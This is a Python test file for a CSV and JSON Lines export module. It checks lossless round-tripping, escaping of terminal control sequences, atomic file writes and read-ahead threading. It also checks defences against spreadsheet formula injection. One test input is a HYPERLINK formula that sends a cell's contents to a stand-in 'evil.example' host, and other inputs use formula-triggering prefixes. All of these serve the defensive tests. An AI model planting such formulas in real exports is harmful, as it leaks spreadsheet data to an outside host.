"""Records as CSV and JSON Lines: what is written is read back as it was, and is no formula in a spreadsheet."""

import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from operator import itemgetter
from pathlib import Path
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from acuse.requests.exact_json import JsonText
from acuse_admin import exporting
from acuse_admin.exporting import Form
from acuse_admin.exports import Batch, Export
from acuse_admin.printable import printable
from tests.support.spreadsheets import cells_read_back, is_run_by_a_spreadsheet

type Record = dict[str, Any]

TEXT: Final = st.text(st.characters(codec="utf-8")) | st.text("=+-@'\t\r\n;, \"＝aé")
RECORDS: Final = st.lists(
    st.fixed_dictionaries(
        {
            "text": TEXT | st.none(),
            "number": st.integers(-(10**18), 10**18) | st.none(),
            "flag": st.booleans(),
            "sent": st.just(JsonText('{"n": 1.50,\r\n\t"n": "\x9b"}')),
        }
    ),
    max_size=5,
)
THINGS: Final[Export[Record]] = Export(
    name="things",
    batches=lambda _tenant, _period: (each for each in list[Batch[Record]]()),
    document=lambda record: record,
    columns={name: itemgetter(name) for name in ("number", "text", "flag")},
)


def written(form: Form, records: list[Record]) -> str:
    return exporting.heading(THINGS, form) + exporting.text_of(THINGS, form, records)


def as_cell(value: object) -> str:
    return "" if value is None else json.dumps(value) if isinstance(value, bool) else str(value)


@given(RECORDS)
def test_csv_is_read_back_cell_for_cell(records: list[Record]) -> None:
    [head, *rows] = cells_read_back(written(Form.CSV, records))
    assert head == ["number", "text", "flag"]
    assert rows == [[as_cell(record[name]) for name in head] for record in records]


@given(RECORDS)
def test_json_lines_are_read_back_value_for_value(records: list[Record]) -> None:
    lines = written(Form.JSONL, records).split("\n")
    assert lines.pop() == ""
    assert [json.loads(line) for line in lines] == [{**each, "sent": {"n": "\x9b"}} for each in records]
    assert all('"sent":{"n": 1.50,   "n": "\\u009b"}' in line for line in lines), "but for line breaks, as it was sent"


@given(RECORDS)
def test_a_line_of_csv_ends_as_rfc_4180_says_and_has_every_cell(records: list[Record]) -> None:
    text = written(Form.CSV, records)
    assert text.endswith("\r\n")
    assert {len(row) for row in csv.reader(io.StringIO(text, newline=""), strict=True)} == {3}


@given(TEXT)
def test_no_cell_is_run_by_a_spreadsheet_whatever_it_separates_cells_by(text: str) -> None:
    file = written(Form.CSV, [{"text": text, "number": 0, "flag": True}])
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(file, newline=""), delimiter=separator):
            assert not any(map(is_run_by_a_spreadsheet, row)), (separator, row)
    [_, [_, cell, _]] = csv.reader(io.StringIO(file, newline=""))
    assert not cell.startswith(tuple("=+-@\t\r\n")), "what OWASP names"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("https://evil.example?"&A1,"Ver")', '\'=HYPERLINK("https://evil.example?"&A1,"Ver")'),
        ("+56 9 1234 5678", "'+56 9 1234 5678"),
        ("-5 grados", "'-5 grados"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("Vuelve mañana;=1+1", "Vuelve mañana;'=1+1"),
        ("'=1", "''=1"),
        ("a=b, c-d; 1@2", "a=b, c-d; 1@2"),
        ("", ""),
        ("'comillas'", "'comillas'"),
    ],
)
def test_a_cell_that_would_be_run_begins_with_an_apostrophe(text: str, cell: str) -> None:
    [_, row] = csv.reader(io.StringIO(written(Form.CSV, [{"text": text, "number": -5, "flag": False}]), newline=""))
    assert row == ["-5", cell, "false"], "numbers are no text"


def test_a_terminal_is_shown_escapes() -> None:
    [record] = [{"text": "a\x1b[31m\x9b2J\r\nb", "number": 1, "flag": True}]
    for form in Form:
        shown = exporting.text_of(THINGS, form, [record | {"sent": None}], is_shown=True)
        assert all(printable(line) == line for line in re.split("\r?\n", shown))


def test_a_mark_is_there_if_asked_for_and_in_csv_alone() -> None:
    assert exporting.heading(THINGS, Form.CSV, has_mark=True) == "\ufeffnumber,text,flag\r\n"
    assert exporting.heading(THINGS, Form.CSV) == "number,text,flag\r\n"
    assert exporting.heading(THINGS, Form.JSONL) == ""


def test_a_file_is_there_when_it_is_whole(tmp_path: Path) -> None:
    file = tmp_path / "results.csv"
    file.write_text("before")
    with exporting.whole_file(file) as opened:
        opened.write(b"after")
        opened.flush()
        assert file.read_text() == "before"
    assert file.read_text() == "after"
    assert list(tmp_path.iterdir()) == [file]


@pytest.mark.parametrize("failure", [OSError("No space left on device"), KeyboardInterrupt()])
def test_nothing_half_written_is_left(tmp_path: Path, failure: BaseException) -> None:
    def write() -> None:
        with exporting.whole_file(tmp_path / "results.csv") as opened:
            opened.write(b"half")
            raise failure

    with pytest.raises(type(failure)):
        write()
    assert list(tmp_path.iterdir()) == []


def test_a_link_stays_one(tmp_path: Path) -> None:
    (tmp_path / "latest.csv").symlink_to("results.csv")
    with exporting.whole_file(tmp_path / "latest.csv") as opened:
        opened.write(b"rows")
    assert (tmp_path / "latest.csv").is_symlink()
    assert (tmp_path / "results.csv").read_bytes() == b"rows"


def test_what_is_read_ahead_keeps_its_order_and_is_not_much() -> None:
    begun: list[int] = []
    first_waits = threading.Event()

    def read(number: int) -> int:
        if number == 0:
            first_waits.wait(5)
        elif number == 1:
            first_waits.set()
        return number

    def numbers() -> Iterator[int]:
        for number in range(100):
            begun.append(number)
            yield number

    made = exporting.ahead(read, numbers())
    assert next(made) == 0
    assert len(begun) <= exporting.READERS + 1
    assert list(made) == list(range(1, 100))


def test_reading_ahead_ends_with_whoever_asks_for_it() -> None:
    made = exporting.ahead(lambda number: number, iter(range(10**9)))
    next(made)
    made.close()
    assert not [each for each in threading.enumerate() if each.name.startswith("export")]


def test_what_fails_while_it_is_read_ahead_is_raised() -> None:
    def fail(number: int) -> int:
        if number == 3:
            raise LookupError("gone")
        return number

    made = exporting.ahead(fail, iter(range(10**9)))
    assert [next(made) for _ in range(3)] == [0, 1, 2]
    with pytest.raises(LookupError, match="gone"):
        next(made)
